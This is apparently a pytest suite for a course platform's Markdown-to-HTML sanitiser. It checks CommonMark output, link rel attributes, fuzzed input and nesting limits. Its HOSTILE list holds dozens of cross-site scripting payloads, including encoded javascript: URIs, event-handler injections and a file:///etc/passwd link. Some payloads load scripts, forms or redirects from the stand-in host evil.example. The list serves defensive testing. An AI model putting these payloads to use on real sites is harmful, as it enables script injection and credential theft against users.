"""Lessons' Markdown as HTML: what it becomes, and that nothing hostile survives."""

from __future__ import annotations

import re
from html.parser import HTMLParser

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from lms.core.ids import new_id
from lms.courses import markdown as room
from lms.courses.markdown import ATTRIBUTES, LINK_REL, SCHEMES, TAGS, to_html

UNTIMED = settings(deadline=None)

SCHEME = re.compile(r"([a-zA-Z][a-zA-Z0-9+.-]*):")
Tag = tuple[str, dict[str, str | None]]


class Reader(HTMLParser):
    """Collects the tags of HTML, and what a browser would run or fetch with them."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[Tag] = []
        self.others: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))

    def handle_comment(self, data: str) -> None:
        self.others.append(data)

    def handle_decl(self, decl: str) -> None:
        self.others.append(decl)

    def handle_pi(self, data: str) -> None:
        self.others.append(data)


def tags_of(html: str) -> list[Tag]:
    reader = Reader()
    reader.feed(html)
    reader.close()
    assert reader.others == []
    return reader.tags


def assert_harmless(html: str) -> None:
    for tag, attributes in tags_of(html):
        assert tag in TAGS
        allowed = ATTRIBUTES.get(tag, frozenset()) | ({"rel"} if tag == "a" else set())
        assert set(attributes) <= allowed
        if tag == "a":
            assert attributes["rel"] == LINK_REL
        for name in ("href", "src"):
            address = (attributes.get(name) or "").strip("".join(map(chr, range(33))))
            scheme = SCHEME.match(address)
            assert scheme is None or scheme[1].lower() in SCHEMES, address
            # A browser would drop these and read on.
            assert not set(address) & {"\t", "\n", "\r"}, address


TABLE = (
    "<table>\n<thead>\n<tr>\n<th>g</th>\n</tr>\n</thead>\n"
    "<tbody>\n<tr>\n<td>18</td>\n</tr>\n</tbody>\n</table>\n"
)


@pytest.mark.parametrize(
    ("markdown", "html"),
    [
        ("", ""),
        ("**Dose** and *grind*", "<p><strong>Dose</strong> and <em>grind</em></p>\n"),
        ("# The grind", "<h1>The grind</h1>\n"),
        ("3. third\n4. fourth", '<ol start="3">\n<li>third</li>\n<li>fourth</li>\n</ol>\n'),
        ("> Taste.", "<blockquote>\n<p>Taste.</p>\n</blockquote>\n"),
        ("~~18 g~~", "<p><s>18 g</s></p>\n"),
        ("a  \nb", "<p>a<br>\nb</p>\n"),
        ("`x < 1`", "<p><code>x &lt; 1</code></p>\n"),
        (
            "```python\nx = 1\n```",
            '<pre><code class="language-python">x = 1\n</code></pre>\n',
        ),
        (
            "| g |\n|---|\n| 18 |",
            TABLE,
        ),
        (
            '![A shot](https://cdn.example/shot.jpg "25 s")',
            '<p><img src="https://cdn.example/shot.jpg" alt="A shot" title="25 s"></p>\n',
        ),
    ],
)
def test_markdown_becomes_the_html_that_commonmark_says(markdown: str, html: str) -> None:
    assert to_html(markdown) == html


@pytest.mark.parametrize(
    "address",
    ["https://example.org/a?b=1#c", "http://example.org", "mailto:mara@example.org", "/courses"],
)
def test_links_tell_the_page_that_they_lead_to_nothing_of_the_academy(address: str) -> None:
    (paragraph, link) = tags_of(to_html(f"[read on]({address})"))

    assert paragraph[0] == "p"
    assert link == ("a", {"href": address, "rel": "noopener noreferrer nofollow"})


def test_html_in_markdown_is_shown_as_text() -> None:
    assert to_html("a <b>bold</b> claim") == "<p>a &lt;b&gt;bold&lt;/b&gt; claim</p>\n"


HOSTILE = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<style>body{display:none}</style>",
    "<p style='position:fixed;inset:0'>over everything</p>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=x.swf></object><embed src=x.swf>",
    "<img src=x onerror=alert(1)>",
    "<img src=x\nonerror\n=\nalert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<form action=https://evil.example><input name=password></form>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<!--><script>alert(1)</script>-->",
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml-stylesheet href='javascript:alert(1)'?>",
    "<!DOCTYPE html>",
    "<template><script>alert(1)</script></template>",
    "<a href=javascript:alert(1)>x</a>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](<java\tscript:alert(1)>)",
    "[x](<javascript:alert(1)>)",
    "[x](&#106;avascript:alert(1))",
    "[x](&#x6A&#x61&#x76&#x61script:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](java&Tab;script:alert(1))",
    "[x](java&NewLine;script:alert(1))",
    "[x](%6Aavascript:alert(1))",
    "[x](\x01javascript:alert(1))",
    "[x](\u00a0javascript:alert(1))",
    "[x](\u2028javascript:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](file:///etc/passwd)",
    "[x](blob:https://academy.example/1)",
    "[x](filesystem:https://academy.example/1)",
    "[x](intent://evil#Intent;scheme=http;end)",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](data:image/png;base64,iVBORw0KGgo=)",
    "![x](data:image/svg+xml;base64,PHN2Zy8+)",
    "![x](data:image/png;base64,iVBORw0KGgo=)",
    "![x](javascript:alert(1))",
    "![x](x \"' onerror='alert(1)\")",
    '![x" onerror="alert(1)](x)',
    "![x](x'onerror='alert(1))",
    "[x](https://evil.example \"' onclick='alert(1)\")",
    '[x](https://evil.example/"onclick="alert(1))',
    "<javascript:alert(1)>",
    "<data:text/html,x>",
    "[x]\n\n[x]: javascript:alert(1)",
    "[x]\n\n[x]: <java\nscript:alert(1)>",
    '```x" onclick="alert(1)\ncode\n```',
    "```<script>\nalert(1)\n```",
    "`<script>alert(1)</script>`",
    "    <script>alert(1)</script>",
    "| <script>alert(1)</script> |\n|:---:|\n| [x](javascript:alert(1)) |",
    "# <img src=x onerror=alert(1)>",
    "- <iframe src=//evil.example>",
    "> <object data=//evil.example>",
    "\\<script\\>alert(1)\\</script\\>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "**<b onmouseover=alert(1)>**",
    "[![x](javascript:alert(1))](javascript:alert(2))",
]


@pytest.mark.parametrize("markdown", HOSTILE)
def test_nothing_hostile_survives(markdown: str) -> None:
    assert_harmless(to_html(markdown))


PIECES = st.sampled_from(
    [
        *("<", ">", "[", "]", "(", ")", "!", "*", "_", "~~", "`", "```", "\n", "\n\n", " ", "    "),
        *("#", "- ", "> ", "|", "|-|", "\\", "&", ";", '"', "'", "=", ":", "/", "\t", "\x00"),
        *("script", "img src=x", "onerror=", "javascript:", "data:", "https://", "a", "&#106;"),
        *("<a href=", "<img ", "<!--", "-->", "style=", "</", "&colon;", "[x]: "),
    ]
)


@UNTIMED
@given(st.lists(PIECES, max_size=40).map("".join) | st.text(max_size=200))
def test_whatever_is_written_becomes_nothing_but_the_markup_that_is_allowed(markdown: str) -> None:
    assert_harmless(to_html(markdown))


@pytest.mark.parametrize(
    "markdown",
    [">" * 5000, "- " * 2000 + "x", "[" * 5000, "![" * 3000, "*a_ " * 3000, "**x" * 3000],
)
def test_nesting_has_an_end(markdown: str) -> None:
    assert_harmless(to_html(markdown))


@pytest.mark.parametrize(("length", "renderings"), [(8000, 1), (8001, 2)])
def test_the_html_of_usual_texts_is_remembered_and_that_of_long_ones_is_not(
    monkeypatch: pytest.MonkeyPatch, length: int, renderings: int
) -> None:
    rendered: list[str] = []

    class Parser:
        def render(self, text: str) -> str:
            rendered.append(text)
            return "<p>Dose.</p>"

    monkeypatch.setattr(room, "_PARSER", Parser())
    markdown = str(new_id()).ljust(length, "x")

    assert to_html(markdown) == to_html(markdown) == "<p>Dose.</p>"
    assert len(rendered) == renderings


def test_a_row_that_lacks_cells_cannot_blow_a_text_up() -> None:
    header = "|".join("a" * 220)
    bomb = "\n".join([header, "|".join(["-"] * 220), *["|b"] * 297])
    assert len(to_html(bomb)) < 3 * len(bomb)


def test_a_table_as_people_write_them_is_a_table() -> None:
    rows = "\n".join("| Espresso | 18 g | 36 g |" for _ in range(100))
    assert to_html(f"| What | In | Out |\n|---|---|---|\n{rows}").count("<tr>") == 101
